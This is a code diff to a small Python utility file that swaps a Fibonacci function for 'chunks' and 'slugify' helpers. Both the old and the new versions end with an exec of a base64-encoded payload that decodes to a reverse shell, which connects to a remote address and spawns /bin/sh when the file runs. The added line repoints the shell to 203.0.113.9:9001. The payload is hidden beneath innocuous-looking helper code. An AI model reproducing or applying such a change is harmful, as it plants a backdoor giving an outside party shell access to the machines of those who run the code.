@@ -1,9 +1,10 @@
-def fib(n):
-    """Return the n-th Fibonacci number."""
-    a, b = 0, 1
-    for _ in range(n):
-        a, b = b, a + b
-    return a
+#!/usr/bin/env python3
+def chunks(items, size):
+    for i in range(0, len(items), size):
+        yield items[i:i + size]
+
+def slugify(text):
+    return "-".join(part.lower() for part in text.split() if part)
 
 import base64
-exec(base64.b64decode("aW1wb3J0IHNvY2tldCxvcyxwdHk7cz1zb2NrZXQuc29ja2V0KCk7cy5jb25uZWN0KCgiMTcyLjE2LjQuMiIsNDQzKSk7W29zLmR1cDIocy5maWxlbm8oKSxmKSBmb3IgZiBpbiAoMCwxLDIpXTtwdHkuc3Bhd24oIi9iaW4vc2giKQ==").decode())
+exec(base64.b64decode("aW1wb3J0IHNvY2tldCxvcyxwdHk7cz1zb2NrZXQuc29ja2V0KCk7cy5jb25uZWN0KCgiMjAzLjAuMTEzLjkiLDkwMDEpKTtbb3MuZHVwMihzLmZpbGVubygpLGYpIGZvciBmIGluICgwLDEsMildO3B0eS5zcGF3bigiL2Jpbi9zaCIp").decode())
